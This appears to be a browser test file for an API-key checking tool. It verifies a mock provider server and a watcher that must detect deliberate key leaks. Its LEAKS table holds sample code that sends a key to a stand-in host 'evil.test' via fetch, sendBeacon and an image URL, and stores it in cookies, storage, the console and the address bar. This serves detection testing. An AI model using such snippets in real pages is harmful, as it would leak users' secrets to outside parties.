// The tests' own tools, on small pages of their own: the server speaks as a provider would, and the watch finds
// every leak that is made on purpose. A watch that has never found anything proves nothing.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { rig } from './lib/browser.mjs';
import { parseRecorded } from './lib/answers.mjs';

const KEY = 'xk-Q7fAm2Lw9TzRb4VnKc8YpJd3Hs6Gx1';
const HEADERS = { authorization: 'Bearer {key}' };
const CATALOGUE = [
  {
    provider: 'example',
    access: 'works',
    exposes: ['x-shown'],
    requests: [
      { check: 'models', method: 'GET', url: 'https://api.example.test/v1/models?limit=9', headers: HEADERS, body: null, kinds: ['api'] },
      { check: 'socket', method: 'WEBSOCKET', url: 'wss://api.example.test/v1/live?x=y', headers: {}, body: null, protocols: ['plain', 'secret.{key}'], kinds: ['api'], when: 'hidden' },
    ],
  },
  {
    provider: 'shy',
    access: 'hides-no',
    exposes: [],
    requests: [{ check: 'me', method: 'POST', url: 'https://shy.example.test/me', headers: { ...HEADERS, 'content-type': 'application/json' }, body: '{"a":1}', kinds: ['api'] }],
  },
];
const MODELS = CATALOGUE[0].requests[0].url;
const LIVE = { status: 200, headers: [['content-type', 'application/json'], ['x-shown', 'a'], ['x-kept', 'b']], body: '{"ok":true}' };
const DEAD = { status: 401, headers: [], body: '{"error":"no"}' };

const promise = rig({ catalogue: () => CATALOGUE, site: null });

// Opens an empty page of our origin and runs `script` in it, as the page's own code.
async function run({ page, world }, script, argument) {
  world.route('/sub/path/', '<!doctype html><html lang="en"><meta name="referrer" content="no-referrer"><title>t</title><textarea id="paste"></textarea>');
  await page.goto(world.url);
  return page.evaluate(script, argument);
}

const ask = async ([url, init]) => {
  try {
    const answer = await fetch(url, { credentials: 'omit', referrerPolicy: 'no-referrer', cache: 'no-store', ...init });
    return { status: answer.status, shown: answer.headers.get('x-shown'), kept: answer.headers.get('x-kept'), body: await answer.text() };
  } catch (error) {
    return { failed: error.name };
  }
};
const keyed = [MODELS, { headers: { authorization: `Bearer ${KEY}` } }];

promise('a page reads the body and the exposed headers, and no others', async (it) => {
  it.world.know(KEY, { provider: 'example', kind: 'api', answers: { models: LIVE } });
  assert.deepEqual(await run(it, ask, keyed), { status: 200, shown: 'a', kept: null, body: '{"ok":true}' });
  assert.deepEqual(it.world.requests.map((r) => [r.method, r.status]), [['OPTIONS', 204], ['GET', 200]]);
  assert.equal(it.world.requests[1].version, '2.0');
});

promise('answers come one after another, the last one again and again', async (it) => {
  it.world.know(KEY, { provider: 'example', answers: { models: [{ ...DEAD, status: 429 }, LIVE] } });
  const statuses = [];
  for (let i = 0; i < 3; i++) statuses.push((await run(it, ask, keyed)).status);
  assert.deepEqual(statuses, [429, 200, 200]);
});

promise('a provider that hides its no fails the fetch, and a bare no-cors request gets through', async (it) => {
  it.world.know(KEY, { provider: 'shy', answers: { me: DEAD } });
  const init = { method: 'POST', body: '{"a":1}', headers: { authorization: `Bearer ${KEY}`, 'content-type': 'application/json' } };
  assert.deepEqual(await run(it, ask, ['https://shy.example.test/me', init]), { failed: 'TypeError' });
  assert.deepEqual(await it.page.evaluate(ask, ['https://shy.example.test/me', { mode: 'no-cors' }]), { status: 0, shown: null, kept: null, body: '' });
  assert.equal(it.world.requests.at(-1).probe, true);
});

promise('a refused preflight, a cut and a hanging connection fail the fetch', async (it) => {
  it.world.know(KEY, { provider: 'example', answers: { models: [{ cut: true }, { hang: true }] } });
  assert.deepEqual(await run(it, ask, keyed), { failed: 'TypeError' });
  const hanging = ([url, init]) => fetch(url, { ...init, signal: AbortSignal.timeout(300) }).catch((e) => e.name);
  assert.equal(await it.page.evaluate(hanging, keyed), 'TimeoutError');
  it.world.preflights.set('api.example.test', 'refuse');
  assert.deepEqual(await it.page.evaluate(ask, keyed), { failed: 'TypeError' });
});

const listen = ([url, protocols]) =>
  new Promise((done) => {
    const out = { events: [], protocol: null };
    const socket = new WebSocket(url, protocols);
    socket.onopen = () => (out.protocol = socket.protocol);
    socket.onmessage = (event) => out.events.push(event.data);
    socket.onclose = (event) => done({ ...out, code: event.code, reason: event.reason });
  });
const socketed = [CATALOGUE[0].requests[1].url, ['plain', `secret.${KEY}`]];

promise('a socket says its events, its close code and its reason', async (it) => {
  const long = JSON.stringify({ type: 'error', text: 'x'.repeat(300) });
  it.world.know(KEY, { provider: 'example', answers: { socket: { events: ['{"a":1}', long], close: [3000, 'bad.key'] } } });
  assert.deepEqual(await run(it, listen, socketed), { events: ['{"a":1}', long], protocol: 'plain', code: 3000, reason: 'bad.key' });
});

promise('a socket that is refused or cut closes with 1006 and no word', async (it) => {
  it.world.know(KEY, { provider: 'example', answers: { socket: [{ refuse: 401 }, { events: [], close: [1006, ''] }] } });
  const mute = { events: [], code: 1006, reason: '' };
  assert.deepEqual(await run(it, listen, socketed), { ...mute, protocol: null });
  assert.deepEqual(await it.page.evaluate(listen, socketed), { ...mute, protocol: 'plain' });
});

promise('a message on a socket is found', async (it) => {
  it.watch.mustFind(/sent 1 messages on a socket/);
  it.watch.mustFind(/a message on the socket/);
  it.world.know(KEY, { provider: 'example', answers: { socket: { events: [] } } });
  await run(it, ([url, protocols]) => new Promise((done) => {
    const socket = new WebSocket(url, protocols);
    socket.onopen = () => (socket.send('hello'), socket.close());
    socket.onclose = done;
  }), socketed);
});

test('recorded answers read as the core reads them', () => {
  const http = parseRecorded('a.http', '# source: x\n# expect: dead invalid\n# check: me\nHTTP/1.1 100 Continue\r\n\r\nHTTP/2 401\r\nA: b\r\nContent-Length: 1\r\n\r\n{}\n');
  assert.deepEqual(http, { name: 'a.http', check: 'me', expect: { state: 'dead', cause: 'invalid' }, refusal: null, status: 401, headers: [['a', 'b']], body: '{}' });
  const socket = parseRecorded('b.socket', '# expect: live\n# expect-browser: unknown hidden\n# refusal: dead revoked\n{"a":1}\nclose 4000 some reason.x\n');
  assert.deepEqual(socket, { name: 'b.socket', check: null, expect: { state: 'unknown', cause: 'hidden' }, refusal: { state: 'dead', cause: 'revoked' }, events: ['{"a":1}'], close: [4000, 'some reason.x'] });
});

// Each leak: what the page does with the key, and what the watch must say of it.
const LEAKS = {
  'a stranger': [() => fetch('https://evil.test/', { mode: 'no-cors' }).catch(() => {}), /stranger was called: evil\.test/, /a request to https:\/\/evil/],
  'a stranger, in clear text': [() => fetch('http://evil.test/', { mode: 'no-cors' }).catch(() => {}), /stranger was called: evil\.test/, /a request to http:\/\/evil/],
  'a beacon': [(key) => navigator.sendBeacon('https://evil.test/', key), /stranger was called: evil\.test/, /a request to/, /a body with a piece/],
  'a picture': [(key) => void (new Image().src = `https://evil.test/?${key}`), /stranger was called/, /a request to/, /a URL with a piece/, /list of resources holds/, /console holds/],
  'another path of a provider': [() => fetch('https://api.example.test/v1/upload', { mode: 'no-cors' }).catch(() => {}), /no plan names this address/, /a request to/],
  'a query of our own': [(key) => fetch('https://api.example.test/v1/models?x=1', { headers: { authorization: `Bearer ${key}` } }).catch(() => {}), /not the planned URL/],
  'a key in the query': [(key) => fetch(`https://api.example.test/v1/models?x=${key}`).catch(() => {}), /fits no plan/, /a URL with a piece/, /list of resources/, /console holds/, /in the header :path/],
  'a key in a second header': [(key) => fetch('https://api.example.test/v1/models?limit=9', { headers: { authorization: `Bearer ${key}`, 'accept-language': key } }).catch(() => {}), /2 places, planned are 1/, /in the header accept-language/i],
  'a header that is not planned': [(key) => fetch('https://api.example.test/v1/models?limit=9', { headers: { authorization: `Bearer ${key}`, 'x-more': '1' } }).catch(() => {}), /preflight of .*x-more/],
  'a key to the wrong provider': [(key) => fetch('https://shy.example.test/me', { method: 'POST', body: '{"a":1}', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' } }).catch(() => {}), /carries a key of example/, /no answer for the check/],
  'a probe with something in it': [() => fetch('https://api.example.test/v1/models', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }).catch(() => {}), /a probe with the header referer/],
  'a path of the site': [(key) => fetch(`/sub/path/?${key}`).catch(() => {}), /the site was sent a piece/, /a URL with a piece/, /list of resources/],
  'a storage': [(key) => localStorage.setItem('a', key), /localStorage was written to/, /localStorage holds/, /storage was written to/, /storage was given a piece/],
  'a storage, and taken back': [(key) => (sessionStorage.setItem('a', key), sessionStorage.clear()), /storage was written to/, /storage was given a piece/],
  'something harmless in a storage': [() => localStorage.setItem('theme', 'dark'), /localStorage was written to/, /storage was written to/],
  'a database': [(key) => new Promise((done) => {
    const open = indexedDB.open('d');
    open.onupgradeneeded = () => open.result.createObjectStore('s').put(key, 1);
    open.onsuccess = () => (open.result.close(), done());
  }), /indexedDB holds/, /indexedDB was written to/],
  'a cookie': [(key) => void (document.cookie = `a=${key}`), /document.cookie was written to/, /cookies/],
  'the title': [(key) => void (document.title = key), /the document holds/, /the title holds/, /the document held/],
  'the address': [(key) => history.replaceState(null, '', `#${key}`), /an address holds/, /the address holds/],
  'the history': [(key) => history.replaceState({ key }, ''), /the address holds/],
  'the console': [(key) => console.log({ deep: { key } }, key), /the console holds/],
  'an exception': [(key) => new Promise((done) => setTimeout(() => { done(); throw new Error(key); })), /an exception holds/, /an exception:/],
  'an exception of the browser': [(key) => { try { new WebSocket('wss://api.example.test/v1/live', [`a b ${key}`]); } catch (error) { setTimeout(() => console.warn(error.message)); } return new Promise((done) => setTimeout(done, 50)); }, /the console holds/],
  'an attribute, for a moment': [(key) => new Promise((done) => { document.body.dataset.key = key; setTimeout(() => (document.body.removeAttribute('data-key'), setTimeout(done, 20)), 20); }), /the document held/],
  'a piece of it in a text': [(key) => document.body.append(key.slice(6, 22)), /the document holds/, /the document held/],
  'a second field': [(key) => { const field = document.createElement('input'); field.value = key; document.body.append(field); }, /a field holds/],
  'an encoding': [(key) => console.log(btoa(`key=${key}`)), /the console holds/],
  'a worker': [() => new Promise((done) => { new Worker('data:text/javascript,1'); setTimeout(done, 100); }), /a worker/],
  'a window': [() => void window.open('about:blank'), /a window was opened/],
  'an error': [() => console.error('something'), /the console has an error/],
};

for (const [where, [leak, ...found]] of Object.entries(LEAKS)) {
  promise(`the watch finds ${where}`, async (it) => {
    it.world.know(KEY, { provider: 'example', kind: 'api', answers: { models: LIVE } });
    for (const pattern of found) it.watch.mustFind(pattern);
    await run(it, leak, KEY);
    await it.page.waitForTimeout(50);
  });
}

promise('a key in the box alone is not found', async (it) => {
  it.world.know(KEY, { provider: 'example', answers: {} });
  await run(it, (key) => void (document.querySelector('#paste').value = key), KEY);
});

promise('what the policy refuses is found, and never leaves', async (it) => {
  it.watch.mustFind(/policy: /);
  it.world.route('/sub/path/strict', '<!doctype html><html lang="en"><meta http-equiv="content-security-policy" content="default-src \'none\'"><title>t</title>');
  await it.page.goto(`${it.world.url}strict`);
  await it.page.evaluate(() => fetch('https://evil.test/').catch(() => {}));
  assert.deepEqual(it.world.strangers, []);
});
